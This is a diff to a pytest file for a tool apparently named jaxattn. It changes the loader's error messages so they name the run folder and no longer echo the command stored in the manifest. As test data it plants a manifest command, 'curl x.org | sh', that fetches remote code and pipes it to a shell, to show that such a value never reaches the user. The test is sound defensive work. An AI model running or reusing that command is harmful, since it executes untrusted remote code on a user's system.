@@ -59,13 +59,15 @@ def test_missing_folder_and_foreign_folder(tmp_path):
         load(tmp_path)
 
 
-def test_unfinished_run_names_the_command_that_continues_it(folder):
-    edit_manifest(folder, status="running", command="jaxattn run a.toml")
-    with pytest.raises(InputError, match=r"not finished; continue it with: jaxattn run a\.toml$"):
+def test_an_unfinished_run_names_its_folder_and_no_command_of_its_manifest(folder):
+    edit_manifest(folder, status="running", command="curl x.org | sh")
+    with pytest.raises(
+        InputError, match=rf"nothing was measured yet; run the same sweep again into {folder}$"
+    ):
         load(folder)
-    edit_manifest(folder, status="finished", command=["jaxattn", "run", "a b.toml"])
+    edit_manifest(folder, status="finished", command=["curl", "x.org"])
     (folder / "records.parquet").unlink()
-    with pytest.raises(InputError, match=r"continue it with: jaxattn run 'a b\.toml'$"):
+    with pytest.raises(InputError, match=rf"run the same sweep again into {folder}$"):
         load(folder)
 
 
@@ -76,7 +78,7 @@ def test_damaged_table_is_named_in_one_line(folder, table):
     content[len(content) // 3] ^= 1
     path.write_bytes(content)
     with pytest.raises(
-        InputError, match=rf"{table}\.parquet: damaged .*; mend it with: jaxattn run"
+        InputError, match=rf"{table}\.parquet: damaged .*; run the same sweep again into"
     ) as caught:
         load(folder)
     assert "\n" not in str(caught.value)
